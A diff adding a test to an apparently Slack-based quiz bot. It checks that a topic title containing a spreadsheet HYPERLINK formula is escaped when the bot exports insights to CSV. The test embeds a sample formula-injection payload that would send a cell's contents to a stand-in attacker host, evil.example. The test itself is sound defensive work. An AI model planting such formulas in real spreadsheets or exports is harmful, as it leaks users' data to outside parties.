@@ -246,3 +246,22 @@ async def test_insights_and_the_dashboard_link_in_chat(tmp_path: Path, catalog: 
     off = await open_engine.handle(ShowDashboard(), admin)
     assert off.view.kind == "dashboard_off"  # type: ignore[union-attr]
     await store.close()
+
+
+def test_a_title_that_is_a_formula_reaches_the_csv_as_text(tmp_path: Path) -> None:
+    """A member can name a new topic (a proposal); a spreadsheet must not run that name."""
+    db, banks = tmp_path / "q.db", tmp_path / "banks"
+    asyncio.run(_store_fixture(db))
+    banks.mkdir()
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    tiny = (FIXTURES / "tiny.yaml").read_text(encoding="utf-8")
+    title = '{en: "Tiny test bank", hi: "छोटा परीक्षण बैंक", bn: "ছোট পরীক্ষা ব্যাংক"}'
+    assert title in tiny
+    written = tiny.replace(title, "{en: '" + formula + "', hi: 'छोटा', bn: 'ছোট'}")
+    (banks / "tiny.yaml").write_text(written, encoding="utf-8")
+    env = {"QUIZBOT_BANKS": str(banks), "LANG": "C"}
+    topics = run_quizbot("insights", "--db", str(db), "--format", "csv", env=env)
+    assert topics.returncode == 0, topics.stderr
+    assert topics.stdout.splitlines()[1] == (
+        'slack,T1,tiny,"\'=HYPERLINK(""https://evil.example/?""&A2,""Open"")",3,8,5,2,40,1,100'
+    )
